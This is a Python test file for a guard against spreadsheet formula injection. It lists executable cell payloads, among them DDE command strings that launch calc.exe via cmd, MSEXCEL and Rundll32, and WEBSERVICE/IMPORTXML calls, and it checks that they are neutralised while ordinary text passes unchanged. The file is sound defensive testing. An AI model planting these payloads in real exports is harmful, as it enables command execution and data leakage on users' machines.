"""What is guarded against spreadsheets, and what stays as it is."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from batchrunner.outputs import guard, unguard
from batchrunner.outputs.formula_guard import cut_at_separators, guard_inside, is_formula

#: What Excel, LibreOffice or Google Sheets execute where it begins a cell.
EXECUTED = [
    "=1+1",
    "=SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=A1",
    '=HYPERLINK("http://x.example")',
    "= 1+1",
    "=-1",
    "=@A1",
    '="a"',
    "=é",
    " =1+1",
    "  =1",
    '"=1+1"',
    "'=1",
    "\ufeff=1",
    "\u200b=1",
    "\xa0=1",
    "＝1+1",
    "＝SUM(1)",
    "+SUM(1)",
    "-SUM(1)",
    "@SUM(1)",
    "@sum(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "-5-5",
    "+1+1",
    "-A1",
    "+A1:B2",
    "@A1",
    "+A1+B2",
    "-$A$1",
    "+Sheet1!A1",
    "-'C:\\x\\[b.xlsx]S'!A1",
    "+'\\\\server\\x'!name",
    "＋SUM(1)",
    "－A1",
    "＠SUM(1)",
    '+IMPORTXML("http://x","//a")',
    '-HYPERLINK ("http://x","y")',
    '+WEBSERVICE("http://x"&A1)',
    '@HYPERLINK("http://x")',
    '+DDE("cmd";"/C calc";"x")',
    "- cmd|x",
    '-foo bar+WEBSERVICE("x")',
    "+1*2",
    "-1/2",
    "-SUM (1)",
    "+LOG10(5)",
    "-(A1)",
    "--A1",
    "+-+SUM(1)",
    "==cmd|' /C calc'!A0",
    "+=SUM(1)",
    "-1^2",
    "+MSEXCEL|'\\..\\..\\Windows\\System32\\calc.exe'!A1",
    "+Rundll32|'x'!A1",
]
#: The same inside of a text, and with its guard.
INSIDE = {
    "a;=1+1": "a;'=1+1",
    "a\t=1+1": "a\t'=1+1",
    "\t=1+1": "\t'=1+1",
    "\n=1": "\n'=1",
    "a;b;@sum(1);c": "a;b;'@sum(1);c",
    'a;"=1+1"': 'a;\'"=1+1"',
    "a; =1+1": "a;' =1+1",
    "a;'=1": "a;''=1",
    "a;-1+cmd|' /C calc'!A0": "a;'-1+cmd|' /C calc'!A0",
    "a\n=HYPERLINK(x)": "a\n'=HYPERLINK(x)",
    "a\r\n+cmd|x": "a\r\n'+cmd|x",
    "a\n- cmd|x": "a\n'- cmd|x",
    "=a;=b": "'=a;'=b",
    "=\n=A1": "=\n'=A1",
    "=\n1+1": "'=\n1+1",
    "x;＝1": "x;'＝1",
}
#: What people, pages and agents write: nothing of it runs.
PLAIN = [
    "+49 30 123456",
    "-€5.00",
    "@acme",
    "- in stock",
    "-5%",
    "+1 (555) 010-9999",
    "--",
    "-foo bar",
    "@user.name",
    "@user_name42",
    "-",
    "+",
    "@",
    "=",
    "==",
    "=====",
    "-----",
    "- one\n- two",
    "* a",
    "-5",
    "+3.2e4",
    "-.5",
    "-2.1 °C",
    "- item(s) left",
    "+1-800-555-0199",
    "+49/30/123456",
    "+1.555.010.9999",
    "- Red (3 pcs)",
    "-webkit-x: y",
    "-18 °C to +5 °C",
    "- 5 - 10 days",
    "-1,234.56",
    "-$5",
    "+5 %",
    "- a: b",
    "@acme, twice",
    "me@x.example",
    "- [ ] todo",
    "--- a",
    "-> next",
    "=> see",
    "=)",
    "== Title ==",
    "@ 5 pm",
    "+ free shipping",
    "-/-",
    "+/- 5",
    "-Infinity",
    "-inf",
    "-cmd",
    "+cmd",
    "@sum",
    "+1 555 010 9999 ext. 5",
    "- 10% off | buy now!",
    "-10 € (incl. VAT)",
    "−5",
    "–5",
    "-½",
    "@home(s)",
    "-don't! stop",
    "-5 (five)",
    "+A",
    "- A4 paper",
    "+B12 vitamin",
    "-1 day",
    "@foo @bar",
    "-@-",
    "#REF!",
    "-x",
    "-xyz-abc",
    "@1",
    "@2x",
    "plain = text",
    "a;b=c",
    "lat;lon: 1;-3.4;+5 °C",
    "list:\n- one\n- two\n---\n",
    "color: red; -webkit-x: y",
    "\tx",
    "\nx",
    "\rx",
    "\x00x",
    "'quoted'",
    "it's",
    "",
    "price:\t- in stock",
    "first\n@acme\n+49 30 123456",
]


@pytest.mark.parametrize("text", EXECUTED)
def test_what_a_spreadsheet_executes_is_guarded(text: str) -> None:
    assert guard(text).startswith("'")
    assert unguard(guard(text)) == text
    for start in (" ", "\xa0", '"', "'", "\ufeff"):
        assert is_formula(start + text)
    for before in ("a;", "a\t", "a\n", "a\r\n", "\t", "\n"):
        assert guard(before + text).removeprefix("'").startswith(f"{before}'")


@pytest.mark.parametrize(("text", "safe"), INSIDE.items())
def test_a_guard_stands_behind_a_separator(text: str, safe: str) -> None:
    assert guard(text) == safe
    assert unguard(safe) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_not_executed_stays_as_it_is(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text
    assert guard(f"a;{text}\n{text}") == f"a;{text}\n{text}"


def test_the_table_is_long_enough_to_mean_something() -> None:
    assert len(EXECUTED) + len(INSIDE) > 70
    assert len(PLAIN) > 70


formulas = st.text(alphabet=st.sampled_from("'=+-@\t\r\n\0＝＋－＠5.e a;\"|(!A1)"))
texts = st.sampled_from([*EXECUTED, *INSIDE, *PLAIN, "'", ";", "\n", "\t", " "])
joined = st.lists(texts).map("".join)


@example("=\n=A1")
@example("'=\n=A1")
@example("-2\n+A1")
@given(st.text() | formulas | joined)
def test_unguard_undoes_guard(text: str) -> None:
    safe = guard(text)
    assert unguard(safe) == text
    assert not is_formula(safe) or safe.startswith("'")
    for part in re.split("[;\t\r\n]", safe)[1:]:
        assert not is_formula(part) or part.startswith("'")


@given(joined, st.integers(1, 8))
def test_a_long_text_is_guarded_part_by_part(text: str, length: int) -> None:
    parts = "".join(map(guard_inside, cut_at_separators(text, length)))
    assert (f"'{parts}" if is_formula(text) else parts) == guard(text)


def test_a_hostile_text_takes_a_time_that_grows_with_its_length_alone() -> None:
    for unit in [*"=- 'a1(|;!", "\n", "1.", "A1:", "-1", "a.", "CMD "]:
        text = "-" + unit * 20_000
        assert unguard(guard(text)) == text
